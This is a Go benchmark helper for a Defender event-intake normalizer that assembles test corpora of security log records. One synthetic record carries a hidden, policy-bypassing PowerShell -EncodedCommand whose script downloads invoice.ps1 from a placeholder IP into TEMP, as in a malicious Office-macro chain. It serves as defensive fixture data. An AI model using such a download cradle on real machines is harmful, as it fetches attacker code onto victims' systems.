package main

import (
	"bytes"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/defender-intake/defender-intake/internal/envelope"
	"github.com/defender-intake/defender-intake/internal/testenv"
)

// The corpora of BenchmarkNormalizeProcess: records, one line each, as
// they arrive from Event Hubs.

const goldenDir = "../../internal/normalize/testdata"

// deviceProcessCorpus returns 1,000 distinct DeviceProcessEvents records of
// about 4.1 KB (the size of real ones, which carry every column): the
// golden Word-spawns-cmd record with an encoded PowerShell command line,
// its report id, process id and timestamp varied.
func deviceProcessCorpus(tb testing.TB) [][]byte {
	tb.Helper()
	raw, err := os.ReadFile(filepath.Join(goldenDir, "DeviceProcessEvents", "windows_office_spawns_cmd.json"))
	if err != nil {
		tb.Fatal(err)
	}
	var compact bytes.Buffer
	if err := json.Compact(&compact, raw); err != nil {
		tb.Fatal(err)
	}
	const targetSize = 4150
	var rec map[string]any // only to find the values to replace
	if err := json.Unmarshal(raw, &rec); err != nil {
		tb.Fatal(err)
	}
	props := rec["properties"].(map[string]any)
	oldCmd, _ := json.Marshal(props["ProcessCommandLine"])
	oldCmd = bytes.ReplaceAll(oldCmd, []byte(`\u0026`), []byte("&"))
	if !bytes.Contains(compact.Bytes(), oldCmd) {
		tb.Fatalf("command line %s not found in the golden record", oldCmd)
	}
	script := strings.Repeat(`$wc=New-Object Net.WebClient;$wc.DownloadFile('http://203.0.113.45/invoice.ps1',"$env:TEMP\inv.ps1");`, 20)
	encoded := base64.StdEncoding.EncodeToString([]byte(script))
	prefix := `"powershell.exe -NoProfile -NonInteractive -WindowStyle Hidden -ExecutionPolicy Bypass -EncodedCommand `
	room := targetSize - compact.Len() + len(oldCmd) - len(prefix) - 1
	if room <= 0 || room > len(encoded) {
		tb.Fatalf("cannot size the record to %d bytes", targetSize)
	}
	newCmd := prefix + encoded[:room] + `"`
	template := bytes.Replace(compact.Bytes(), oldCmd, []byte(newCmd), 1)
	out := make([][]byte, 1000)
	for i := range out {
		r := bytes.Replace(template, []byte(`"ReportId":18342`), fmt.Appendf(nil, `"ReportId":%d`, 18342+i), 1)
		r = bytes.Replace(r, []byte(`"ProcessId":7412`), fmt.Appendf(nil, `"ProcessId":%d`, 7412+i%4000), 1)
		r = bytes.Replace(r, []byte(`"Timestamp":"2026-11-20T09:14:22.1234567Z"`),
			fmt.Appendf(nil, `"Timestamp":"2026-11-20T09:%02d:%02d.%07dZ"`, i/60%60, i%60, i*7919%10000000), 1)
		out[i] = r
	}
	return out
}

// referenceCorpus returns the inputs of the reference intake's conformance
// cases: every table it knows, 2.7 KB on average.
func referenceCorpus(tb testing.TB) [][]byte {
	tb.Helper()
	dir := os.Getenv("NORMALIZE_BENCH_REFERENCE")
	if dir == "" {
		dir = testenv.SharedDir(tb, "conformance/sekoia")
	}
	files, _ := filepath.Glob(filepath.Join(dir, "*.json"))
	var out [][]byte
	for _, f := range files {
		b, err := os.ReadFile(f)
		if err != nil {
			tb.Fatal(err)
		}
		var tc struct{ Input struct{ Message string } }
		if err := json.Unmarshal(b, &tc); err != nil {
			tb.Fatalf("%s: %v", f, err)
		}
		var rec bytes.Buffer // one line, as the stream carries records
		if err := json.Compact(&rec, []byte(tc.Input.Message)); err != nil {
			tb.Fatalf("%s: %v", f, err)
		}
		out = append(out, rec.Bytes())
	}
	if len(out) == 0 {
		tb.Skipf("no reference cases in %s", dir)
	}
	return out
}

// shippedCorpus returns the records every clone has: the golden inputs
// (every table, edge cases) and the records of the shipped sample.
func shippedCorpus(tb testing.TB) [][]byte {
	tb.Helper()
	files, _ := filepath.Glob(filepath.Join(goldenDir, "*", "*.json"))
	var out [][]byte
	for _, f := range files {
		if strings.HasSuffix(f, ".ecs.json") {
			continue
		}
		raw, err := os.ReadFile(f)
		if err != nil {
			tb.Fatal(err)
		}
		var buf bytes.Buffer
		if err := json.Compact(&buf, raw); err != nil {
			tb.Fatalf("%s: %v", f, err)
		}
		out = append(out, buf.Bytes())
	}
	sample, err := os.Open("../../examples/defender-sample.ndjson")
	if err != nil {
		tb.Fatal(err)
	}
	defer sample.Close()
	rd := envelope.NewReader(sample)
	for {
		rec, err := rd.Next()
		if err == io.EOF {
			break
		}
		if err != nil {
			tb.Fatal(err)
		}
		out = append(out, bytes.Clone(rec.Bytes))
	}
	return out
}
